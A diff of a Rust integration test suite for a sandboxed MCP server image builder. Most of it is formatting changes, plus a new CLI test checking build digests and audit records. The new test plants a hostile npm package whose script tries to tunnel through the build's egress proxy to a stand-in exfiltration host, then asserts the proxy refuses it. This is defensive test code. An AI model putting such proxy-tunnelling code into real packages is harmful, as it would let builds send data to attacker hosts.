@@ -47,13 +47,16 @@ const TIME: &str = "pypi:mcp-server-time==2026.10.19";
 
 fn bases() -> Bases {
     Bases {
-        cache: testkit::bins::target_dir().join("image-build/bases"),
+        cache: testkit::bins::target_dir().join("image-build-bases"),
     }
 }
 
 /// The address this machine resolves `host` to: the operator's opt-in, as CI passes it.
 fn registry_address(host: &str) -> IpAddr {
-    let out = Command::new("getent").args(["hosts", host]).output().unwrap();
+    let out = Command::new("getent")
+        .args(["hosts", host])
+        .output()
+        .unwrap();
     String::from_utf8_lossy(&out.stdout)
         .split_whitespace()
         .next()
@@ -81,7 +84,8 @@ struct Outside {
 fn outside(eco: Ecosystem) -> Outside {
     let b = bases();
     for recipe in [Recipe::runtime(eco), Recipe::builder(eco)] {
-        b.ensure(&recipe).unwrap_or_else(|e| panic!("base {}: {e}", recipe.name));
+        b.ensure(&recipe)
+            .unwrap_or_else(|e| panic!("base {}: {e}", recipe.name));
     }
     let hosts = match eco {
         Ecosystem::Npm => vec!["registry.npmjs.org"],
@@ -313,7 +317,14 @@ async fn run_and_call(
         "[image_build] {name}: initialize answered {:?} after start",
         started.elapsed()
     );
-    rpc(&mut stdin, &mut stdout, None, "notifications/initialized", json!({})).await;
+    rpc(
+        &mut stdin,
+        &mut stdout,
+        None,
+        "notifications/initialized",
+        json!({}),
+    )
+    .await;
     let list = rpc(&mut stdin, &mut stdout, Some(2), "tools/list", json!({})).await;
     let tools: Vec<String> = list["result"]["tools"]
         .as_array()
@@ -483,15 +494,16 @@ fn mcp_server_time_from_pypi_builds_twice_to_one_digest_and_runs_sandboxed() {
 
 /// The latest version the registry publishes, asked of the registry the build uses.
 fn latest_npm(name: &str) -> String {
-    let url = format!(
-        "https://registry.npmjs.org/{}",
-        name.replace('/', "%2f")
-    );
+    let url = format!("https://registry.npmjs.org/{}", name.replace('/', "%2f"));
     let out = Command::new("curl")
         .args(["--fail", "--silent", "--show-error", &url])
         .output()
         .unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     v["dist-tags"]["latest"].as_str().unwrap().to_owned()
 }
@@ -592,8 +604,9 @@ s.on('error', e => {{ console.error('proxy: ' + e.code); process.exit(7); }});
         assert!(!env.out.path().join("evil").exists());
         let audit = env.store.audit_recent(1000).unwrap();
         assert!(
-            audit.iter().any(|e| e.action == "egress.denied"
-                && e.detail.contains(&evil)),
+            audit
+                .iter()
+                .any(|e| e.action == "egress.denied" && e.detail.contains(&evil)),
             "{audit:#?}"
         );
         assert_eq!(std::fs::read_dir(&env.h.data_root).unwrap().count(), 0);
@@ -645,7 +658,11 @@ fn a_tree_with_a_device_node_is_refused_by_name() {
     let name = format!("dev{}", random_hex(3));
     std::fs::create_dir(dir.path().join("node_modules")).unwrap();
     let node = dir.path().join("node_modules").join(&name);
-    let st = Command::new("mknod").arg(&node).args(["c", "1", "3"]).status().unwrap();
+    let st = Command::new("mknod")
+        .arg(&node)
+        .args(["c", "1", "3"])
+        .status()
+        .unwrap();
     assert!(st.success());
     match Tree::scan(dir.path(), Limits::APP, Links::Inside) {
         Err(TreeError::Special { path, kind }) => {
@@ -654,4 +671,117 @@ fn a_tree_with_a_device_node_is_refused_by_name() {
         }
         other => panic!("{other:?}"),
     }
+}
+
+/// The CLI as an operator runs it, from the host's namespace (its egress proxy dials the
+/// registry from there), against the harness's helper on its private bus.
+fn cli_build(env: &Env, outside: &Outside, state: &Path, args: &[&str]) -> std::process::Output {
+    let config = env.h.dir.path().join("gigmcp.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[sandbox]\nbus = \"{}\"\nimages_dir = \"{}\"\nca_dir = \"{}\"\nproxy_port = {PROXY_PORT}\n\
+             pool = \"{}\"\n",
+            env.h.address,
+            env.h.images.display(),
+            env.h.ca_dir.display(),
+            testkit::helper::POOL
+        ),
+    )
+    .unwrap();
+    let mut cmd = Command::new(testkit::bins::workspace_bin("gigmcp"));
+    cmd.arg("--config")
+        .arg(&config)
+        .arg("--state-dir")
+        .arg(state)
+        .args(["image", "build"])
+        .args(args)
+        .arg("--data-root")
+        .arg(&env.h.data_root)
+        .arg("--cache")
+        .arg(bases().cache)
+        .arg("--registry-address")
+        .arg(outside.registry.to_string());
+    outside.host.run(move || cmd.output().unwrap())
+}
+
+#[test]
+fn the_cli_prints_the_digest_and_audits_the_build_and_the_egress_denials() {
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
+    if !testkit::require_root("image_build_cli") {
+        return;
+    }
+    let outside = outside(Ecosystem::Npm);
+    testkit::privileged("image_build_cli", 2, move || async move {
+        let env = env(&outside).await;
+        let state = env.h.dir.path().join("cli-state");
+        let out = env.out.path().join("everything");
+        let done = cli_build(
+            &env,
+            &outside,
+            &state,
+            &[EVERYTHING, "--base", "node", "--out", out.to_str().unwrap()],
+        );
+        let stdout = String::from_utf8_lossy(&done.stdout).trim().to_owned();
+        assert!(
+            done.status.success(),
+            "{}",
+            String::from_utf8_lossy(&done.stderr)
+        );
+        let (digest, _, _) = read_layout(&out);
+        assert_eq!(stdout, digest.to_string());
+
+        let evil = format!("exfil-{}.example.net", random_hex(4));
+        let pkg = hostile_package(
+            env.out.path(),
+            &format!(
+                "const net = require('net'); const p = new URL(process.env.HTTPS_PROXY);\n\
+                 const s = net.connect(+p.port, p.hostname, () => s.write('CONNECT {evil}:443 HTTP/1.1\\r\\n\\r\\n'));\n\
+                 s.on('data', d => {{ console.error('proxy said: ' + d.toString().split('\\r\\n')[0]); process.exit(3); }});\n"
+            ),
+        );
+        let refused_out = env.out.path().join("refused");
+        let refused = cli_build(
+            &env,
+            &outside,
+            &state,
+            &[
+                &format!("dir:{}", pkg.display()),
+                "--base",
+                "node",
+                "--out",
+                refused_out.to_str().unwrap(),
+            ],
+        );
+        let stderr = String::from_utf8_lossy(&refused.stderr);
+        assert!(!refused.status.success());
+        assert!(stderr.contains("proxy said: HTTP/1.1 403"), "{stderr}");
+        assert!(!refused_out.exists());
+
+        let audit = SqliteStore::open_in(&state)
+            .unwrap()
+            .audit_recent(1000)
+            .unwrap();
+        let build = |outcome: &str| {
+            audit.iter().any(|e| {
+                e.action == "image.build"
+                    && e.outcome == outcome
+                    && e.detail
+                        .contains(&format!("registry_address={}", outside.registry))
+            })
+        };
+        assert!(build("ok") && build("failed"), "{audit:#?}");
+        assert!(
+            audit
+                .iter()
+                .any(|e| e.action == "image.build" && e.detail.contains(&stdout)),
+            "{audit:#?}"
+        );
+        assert!(
+            audit
+                .iter()
+                .any(|e| e.action == "egress.denied" && e.detail.contains(&evil)),
+            "{audit:#?}"
+        );
+    });
 }
